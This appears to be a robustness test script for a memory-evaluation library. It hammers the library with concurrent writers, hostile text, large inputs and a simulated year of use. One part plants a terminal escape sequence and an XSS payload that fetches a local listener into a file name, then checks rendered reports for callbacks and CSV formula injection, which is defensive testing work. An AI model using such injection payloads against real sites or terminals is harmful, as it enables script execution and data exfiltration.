"""What memlab withstands: writers, kills, mutated inputs, wrong types, malicious servers, hostile text, large scopes.

`python scripts/torture.py --writers 20 --kills 90 --inputs 20000 --calls 50000 --servers 1 --texts 1 --large
200000 --year 365` prints a row for each part, all zeros where memlab held; a part with count 0 is left out.
Everything is drawn from `--seed`.
"""

from __future__ import annotations

import argparse
import csv
import json
import multiprocessing
import os
import random
import re
import shlex
import subprocess
import sys
import threading
import time
from collections import Counter
from concurrent.futures import ThreadPoolExecutor
from dataclasses import replace
from datetime import UTC, date, datetime, timedelta
from functools import partial
from pathlib import Path
from tempfile import TemporaryDirectory
from typing import Any
from urllib.parse import quote

from killed import HASHING, ROOT, SAMPLE, TIMES, kills, run
from malicious import inputs, listen, sent, servers
from odd_options import options
from wrong_types import calls

from memlab import Bench, datasets, embed
from memlab import run as run_pipelines
from memlab.figures.browser_rendering import find_browser_path
from memlab.store import MemoryStore
from memlab.summaries.stored_trees import TreeDesign, choose_service_of_design, read_or_write_period

MESSAGE = {
    "scope": "a",
    "session": "s",
    "sender": "Ann",
    "role": "user",
    "text": "I like tea.",
    "id": "1",
}
RUNS, ENCODER = 10, "hashing:64"
IMPORTED = ["lancedb", "memlab.cli", "sklearn.ensemble", "torch", "transformers.modeling_layers"]


def writers(count: int, rng: random.Random, work: Path) -> Counter[str]:
    """Let four processes a round add to two scopes that they share and one of their own, while a thread reads."""
    faults: Counter[str] = Counter(lost=0, doubled=0, torn=0, told=0)
    kept, ended, store = set[str](), threading.Event(), MemoryStore.open(work / "store")

    def write(number: int, writer: int) -> None:
        place = work / (name := f"{number}-{writer}")
        rows = [
            MESSAGE | {"scope": s, "id": f"{name}-{i}"}
            for s in ("a", "b", f"own{writer}")
            for i in range(60)
        ]
        place.mkdir()
        (place / "log.jsonl").write_text("\n".join(map(json.dumps, rows)))
        code, _ = run(place, "ingest log.jsonl --into log --encoder hashing:64 --store ../store")
        faults["told"] += bool(code)
        kept.update(f"{row['scope']}/{row['id']}" for row in rows if not code)

    def read() -> None:
        while not ended.wait(0.01):
            log = store.dataset("log")
            faults["torn"] += log.sessions["n_turns"].sum() != log.turns.height

    write(0, 0)
    with ThreadPoolExecutor(5) as pool:
        reader = pool.submit(read)
        for number in range(1, count + 1):
            list(pool.map(write, [number] * 4, range(4)))
        ended.set()
        reader.result()
    turns = store.dataset("log").turns["turn_id"].to_list()
    faults["lost"], faults["doubled"] = len(kept - set(turns)), len(turns) - len(set(turns))
    return faults


def texts(count: int, rng: random.Random, work: Path) -> Counter[str]:
    """Put hostile text in every field, and open all reports, figure pages and executed notebooks in Chromium."""
    faults: Counter[str] = Counter(arrivals=0, escapes=0, formulas=0, paths=0)
    address, got = listen(lambda _: sent(b""))
    bad = json.loads(
        (ROOT / "scripts" / "formats" / "hostile.json").read_text().replace("ADDRESS", address)
    )
    rows: list[dict[str, Any]] = [
        MESSAGE | {"scope": h, "session": h + rng.choice(bad), "sender": h, "caption": h, "id": f"{h}{i}",
                   "text": f"{h} I moved to {rng.choice(bad)}.", "timestamp": 1.7e9 + 86400 * i}
        for h in bad for i in range(8)]  # fmt: skip
    rows += [{"scope": h, "question": f"{h} Where {i}?", "answer": h, "type": h, "evidence": [f"{h}{i}"]}
             for h in bad for i in range(3)]  # fmt: skip
    call = quote(f"{address}/name", safe="")
    name = f"\x1b]0;pwned\x07<img src=x onerror=fetch(unescape('{call}'))>log.jsonl"
    (work / name).write_text("\n".join(map(json.dumps, rows)))
    log = shlex.quote(name)
    verbs = [f"ingest {log} {HASHING}", f"info {HASHING}", f"index {HASHING}",
             f"evaluate {log} --encoder hashing:64 --pipeline bm25 --out out",
             f"compare {log} --encoder hashing:64 --system bm25 --system dense --out page",
             f"notebooks {log} --source {ROOT}/notebooks --out books --set timed=3 --set n_seeds=1"]  # fmt: skip
    kinds = zip(("summaries", "topics", "entities", "timeline"), bad, strict=False)
    verbs += [
        "figures",
        *(f"list {kind} --store store --scope {shlex.quote(scope)}" for kind, scope in kinds),
    ]
    ended = [run(work, verb) for verb in verbs]
    faults["refused"] = sum(
        bool(code) for verb, (code, _) in zip(verbs, ended, strict=True) if verb[:4] != "list"
    )
    faults["escapes"] = len(
        re.findall("\x1b\\]|\x1b\\[31|\x07|\u202e", "".join(text for _, text in ended))
    )
    subprocess.run(
        [sys.executable, "-m", "nbconvert", "--to=html", *work.glob("books/*.ipynb")], check=True
    )
    for path in [
        path for path in work.rglob("*.[chjm]*") if path.is_file() and "store" not in path.parts
    ]:
        text = path.read_text(errors="replace")
        faults["paths"] += any(f"{folder}/" in text for folder in (work, Path.home()))
        if path.suffix == ".csv":
            cells = [cell for row in csv.reader(text.splitlines()) for cell in row]
            faults["formulas"] += any(re.match(r"[=@\t\r]|[+-](?![\d.])", cell) for cell in cells)
        if path.suffix == ".html":
            options = (
                "--headless",
                "--no-sandbox",
                "--disable-gpu",
                "--timeout=8000",
                "--dump-dom",
            )
            command = [
                find_browser_path(),
                *options,
                f"--user-data-dir={work}.chromium",
                path.as_uri(),
            ]
            assert b"<html" in subprocess.run(command, capture_output=True, timeout=120).stdout, (
                path
            )
            print(f"{path.name}: {len(got)} arrivals")
    faults["arrivals"] = len(got)
    return faults


def large(count: int, rng: random.Random, work: Path) -> Counter[str]:
    """Evaluate one scope of so many turns with 2,700 questions, and weeks of 50,000 with 827."""
    faults: Counter[str] = Counter(large=0)
    said = [row["text"] for row in SAMPLE if "text" in row]
    for turns, questions, line in (
        (count, 2_700, "bm25"),
        (min(count, 50_000), 827, "tree(over='weeks')"),
    ):
        rows: list[dict[str, Any]] = [
            MESSAGE | {"id": f"{i}", "session": f"{i // 20}", "text": f"{said[i % len(said)]} {i // len(said)}",
                       "timestamp": 1.6e9 + 900 * i} for i in range(turns)]  # fmt: skip
        rows += [{"scope": "a", "question": rng.choice(said), "query_id": f"q{i}",
                  "evidence": [f"{rng.randrange(turns)}" for _ in "ab"]} for i in range(questions)]  # fmt: skip
        (work / "log.jsonl").write_text("\n".join(map(json.dumps, rows)))
        verb = f'evaluate log.jsonl --encoder hashing:64 --store {turns} --pipeline "{line}"'
        used = TIMES.search(run(work, verb)[1])
        assert used is not None
        size = int(used[1])
        print(f"{turns:,} turns × {questions:,} questions, {line}: {size / 1e9:.2f} GB")
        faults["large"] += size > 3 << 30
    return faults


def year(count: int, rng: random.Random, work: Path) -> Counter[str]:
    """Live so many days with one store, and compare its size with that of a fresh one with the same content."""
    faults: Counter[str] = Counter(different=0, large=0)
    lived, fresh = MemoryStore.open(work / "lived"), MemoryStore.open(work / "fresh")
    encoder, said, rows = embed.load(ENCODER), [r["text"] for r in SAMPLE if "text" in r], []
    saved_on = {(n + 1) * count // RUNS - 1 for n in range(RUNS)}
    for day in range(count):
        at = datetime(2026, 1, 1, 9, tzinfo=UTC) + timedelta(days=day)
        rows += [MESSAGE | {"session": str(day), "id": f"{day}-{i}", "text": rng.choice(said),
                            "timestamp": (at + timedelta(minutes=i)).isoformat()} for i in range(10)]  # fmt: skip
        rows += [{"scope": "a", "question": rng.choice(said), "query_id": f"q{day}-{i}", "evidence": [f"{day}-{i}"]}
                 for i in range(2) if day % 10 == 0]  # fmt: skip
        _ingest(lived, rows[-12:] if day % 10 == 0 else rows[-10:], work, encoder)
        if day % 7 == 6:
            _roll_up(lived, at.date())
        if day in saved_on:
            run_pipelines(
                ["bm25"],
                lived.dataset("log"),
                encoder=ENCODER,
                store=str(work / "lived"),
                levels=["turn"],
            )
        if day % 30 == 29:
            lived.optimize()
    _ingest(fresh, rows, work, encoder)
    for day in range(6, count, 7):
        _roll_up(fresh, date(2026, 1, 1) + timedelta(days=day))
    ids = lived.runs.listing()["run_id"]
    for run_id in ids:
        run = lived.runs.load(run_id)
        fresh.runs.save(replace(run, provenance=run.provenance | {"versions": fresh.versions()}))
        at = lived.at(run.provenance["versions"]).dataset("log")
        faults["different"] += at.fingerprint() != run.provenance["fingerprint"]
    faults["different"] += lived.dataset("log").fingerprint() != fresh.dataset("log").fingerprint()
    sizes = [store.size() or 0 for store in (lived, fresh)]
    lived.optimize()
    fresh.optimize()
    sizes += [store.size() or 0 for store in (lived, fresh)]
    faults["large"] = int(sizes[0] >= 3 * sizes[1]) + int(sizes[2] >= 3 * sizes[3])
    kilobytes = "lived {:,} kB, fresh {:,} kB; both optimized {:,} and {:,} kB"
    print(len(ids), "runs;", kilobytes.format(*(size // 1000 for size in sizes)))
    return faults


def _ingest(store: MemoryStore, rows: list[dict[str, Any]], work: Path, encoder: Any) -> None:
    path = work / "part.jsonl"
    path.write_text("\n".join(map(json.dumps, rows)))
    with store.alone("log"):
        into = (
            {"into": lambda scopes: store.dataset("log", scopes=scopes)}
            if store.whole("log")
            else {}
        )
        store.ingest(datasets.stream(path, name="log", **into))
    store.vectors.backfill(encoder, "log", progress=False)
    store.search.create_indexes(encoder)


def _roll_up(store: MemoryStore, day: date) -> None:
    bench = Bench.of(store.dataset("log"), store=store, ingest=False)
    design = choose_service_of_design(
        bench, TreeDesign("weeks", tz="UTC"), "extractive", "extractive"
    )
    read_or_write_period(bench, design, "week", day)


PARTS = {
    part.__name__: part
    for part in (writers, kills, inputs, options, calls, servers, texts, large, year)
}


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__)
    for name, part in PARTS.items():
        parser.add_argument(f"--{name}", type=int, default=0, help=part.__doc__)
    parser.add_argument("--seed", type=int, default=0)
    parser.add_argument(
        "--verbs", nargs="+", default=(), help="Which verbs are killed; all of them."
    )
    chosen, failed = vars(parser.parse_args()), False
    parts = PARTS | {"kills": partial(kills, only=chosen["verbs"])}
    os.environ.setdefault("PYTHONWARNINGS", "ignore")  # of forks, which end here by being killed
    multiprocessing.get_context("forkserver").set_forkserver_preload(IMPORTED)
    for name, part in parts.items():
        if count := chosen[name]:
            with TemporaryDirectory(
                prefix=f"torture-{name}-", ignore_cleanup_errors=True
            ) as folder:
                (work := Path(folder) / "work").mkdir()
                begun, faults = (
                    time.perf_counter(),
                    part(count, random.Random(chosen["seed"]), work),
                )
            failed |= any(faults.values())
            print(
                f"{name} {count}: {dict(faults)}; {time.perf_counter() - begun:.0f} s", flush=True
            )
    sys.exit(failed)


if __name__ == "__main__":
    main()
